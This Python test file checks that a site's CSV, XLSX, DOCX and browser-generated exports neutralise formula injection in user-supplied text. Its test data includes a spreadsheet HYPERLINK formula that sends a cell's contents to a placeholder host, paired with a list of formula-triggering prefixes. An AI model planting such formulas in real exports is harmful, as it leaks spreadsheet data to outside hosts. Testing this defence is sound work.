"""No download runs: a cell that holds somebody's text is a text in every spreadsheet.

Every text of the data, and everything a reader may type into a tool, begins with what makes a
spreadsheet compute; each file is read back and looked at cell by cell.
"""

import csv
import io
import itertools
import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest
from docx import Document
from playwright.sync_api import Page

from macros.catalogue import Catalogue, catalogue
from macros.comments.offer import comment_files
from macros.exports.csvfile import make as csv_of
from macros.exports.survey import survey_files
from macros.exports.xlsx import make as xlsx_of
from macros.load import load
from macros.render import Reader
from macros.score.page_data import assessment_files
from tests.attack.tree import plant
from tests.rig.small import TREE

#: What begins a formula, in ASCII and as a Chinese keyboard types it; a tab or line end before it.
BEGINNINGS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠")
LINK = 'HYPERLINK("https://example.org/?"&A1,"x")'
FORMULAS = [beginning + LINK for beginning in BEGINNINGS]
#: Spaces at either end of a text are not kept by the YAML reader; these begin in the file itself.
WRITTEN = [text for text in FORMULAS if text[0] not in "\t\r\n"]


@pytest.fixture(scope="module")
def known(tmp_path_factory) -> Catalogue:
    """A catalogue whose every text begins a formula; no rule has been asked."""
    root = tmp_path_factory.mktemp("formulas") / "tree"
    shutil.copytree(TREE, root)
    texts = itertools.cycle(WRITTEN)
    plant(root, lambda model, field: next(texts) if model != "WordsOf" else "词")
    tree, problems = load(root)
    assert not problems
    return catalogue(tree)


def cells_of_csv(data: bytes) -> list[str]:
    """Every cell as a spreadsheet reads it."""
    return [
        cell
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
        for cell in row
    ]


def formulas_of_xlsx(data: bytes) -> list[str]:
    """Cells, names, validations and links that a spreadsheet would compute."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    found = [
        str(cell.value)
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    found += [str(one.value) for one in book.defined_names.values()]
    found += [
        str(rule)
        for sheet in book
        for check in sheet.data_validations.dataValidation
        for rule in (check.formula1, check.formula2)
        if rule
    ]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = "".join(
            archive.read(name).decode("utf-8", "replace") for name in archive.namelist()
        )
    return [*found, *(["link"] if "externalLink" in parts or "ddeLink" in parts else [])]


#: A string in a formula; two quotes stand for one.
_STRING = re.compile(r'"(?:[^"]|"")*"')


def texts_of_xlsx(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [
        cell.value
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "s"
    ]


@pytest.mark.parametrize("language", ["zh", "en"])
def test_the_table_of_an_edition(known, language):
    edition, reader = known.edition("demo@2026"), Reader(known, language)
    cells = cells_of_csv(csv_of(edition, reader))
    assert not [cell for cell in cells if cell.startswith(BEGINNINGS)]
    assert len([cell for cell in cells if cell[:1] == "'" and cell[1:] in WRITTEN]) > 5
    book = xlsx_of(edition, reader)
    assert formulas_of_xlsx(book) == []
    assert len([text for text in texts_of_xlsx(book) if text in WRITTEN]) > 5, "as it was written"


def test_tables_of_comments_and_sheets_of_the_survey(known):
    made = dict([*comment_files(known), *survey_files(known)])
    endings = {Path(name).suffix for name in made}
    assert {".xlsx", ".docx", ".csv"} <= endings
    for name, data in made.items():
        if name.endswith(".csv"):
            assert not [cell for cell in cells_of_csv(data) if cell.startswith(BEGINNINGS)], name
        elif name.endswith(".xlsx"):
            found = formulas_of_xlsx(data)
            assert not [text for text in found if "HYPERLINK" in text or text == "link"], name
            assert any("HYPERLINK" in text for text in texts_of_xlsx(data)), name
        elif name.endswith(".docx"):
            written = Document(io.BytesIO(data)).element.xml
            assert "w:instrText" not in written, "no field, so nothing is fetched or computed"
            assert "w:fldSimple" not in written


def test_the_workbook_of_the_self_assessment_computes_only_its_own(known):
    books = {name: data for name, data in assessment_files(known) if name.endswith(".xlsx")}
    assert books
    for name, data in books.items():
        computed = formulas_of_xlsx(data)
        assert computed, name
        wrong = [text for text in computed if "HYPERLINK" in _STRING.sub("", text)]
        assert not wrong, "names of levels stand in formulas as quoted strings only"
        assert any("HYPERLINK" in text for text in texts_of_xlsx(data)), name


# What a reader types


@pytest.fixture
def page(page_guard, server) -> Page:
    opened = page_guard()
    opened.goto(f"{server}tools/survey/")
    return opened


def made_by(page: Page, kind: str, rows: list[list[str]]) -> bytes:
    """Rows through the function that every page of the site saves with."""
    call = {"csv": "asc.csv(rows)", "xlsx": "asc.xlsx([{name: 'x', rows, widths: [9]}])"}[kind]
    return bytes(page.evaluate(f"rows => [...{call}]", rows))


def test_every_file_a_page_saves_holds_texts(page):
    rows = [["", text] for text in FORMULAS]
    read = list(csv.reader(io.StringIO(made_by(page, "csv", rows).decode("utf-8-sig"), newline="")))
    assert read == [["", f"'{text}"] for text in FORMULAS]
    book = made_by(page, "xlsx", rows)
    assert formulas_of_xlsx(book) == []
    assert len([text for text in texts_of_xlsx(book) if "HYPERLINK" in text]) == len(FORMULAS)


def test_numbers_are_numbers(page):
    """Only texts are guarded: a deduction is a number below zero."""
    read = made_by(page, "csv", [[-1, 0.5, "-"]]).decode("utf-8-sig")
    assert read == "-1,0.5,'-\r\n"


def saved(page: Page, press: str) -> bytes:
    with page.expect_download() as waiting:
        page.locator(press).click()
    return Path(waiting.value.path()).read_bytes()


def test_the_self_assessment_gives_back_what_was_typed_as_text(page_guard, server):
    page = page_guard()
    page.goto(f"{server}assess/asc/2026/")
    page.locator("#assess-go").wait_for()
    page.locator("#panel-start input[type=text]").first.fill("=" + LINK)
    page.locator("#assess-go").click()
    page.locator(".x-q:visible .x-q__answer input").first.check()
    page.locator("#tab-files").click()
    book = saved(page, "#assess-book")
    assert not [text for text in formulas_of_xlsx(book) if "HYPERLINK" in text]
    assert "=" + LINK in texts_of_xlsx(book)


def test_the_survey_gives_back_what_was_typed_as_text(page):
    for number in range(1, 15):
        page.check(f'[name="s{number}"][value="5"]')
        page.check(f'[name="i{number}"][value="4"]')
    page.fill("#survey-comment", "@" + LINK)
    page.click(".x-survey__button--main")
    page.locator("#survey-save-csv").wait_for()
    cells = cells_of_csv(saved(page, "#survey-save-csv"))
    assert "'@" + LINK in cells
    assert not [cell for cell in cells if cell.startswith(BEGINNINGS)]
    book = saved(page, "#survey-save-xlsx")
    assert formulas_of_xlsx(book) == []
    assert "@" + LINK in texts_of_xlsx(book)


def test_every_csv_and_workbook_of_the_site_is_clean(site):
    """All that is published: no cell of a CSV begins a formula, no workbook has one but ours."""
    for path in site.rglob("*.csv"):
        wrong = [cell for cell in cells_of_csv(path.read_bytes()) if cell.startswith(BEGINNINGS)]
        assert not wrong, path
    books = [path for path in site.rglob("*.xlsx") if "comments" not in path.parts]
    assert len(books) > 8
    for path in books:
        if "assess" not in path.parts:  # a survey's sheet has limits of numbers, nothing else
            wrong = [text for text in formulas_of_xlsx(path.read_bytes()) if not text.isdigit()]
            assert not wrong, path
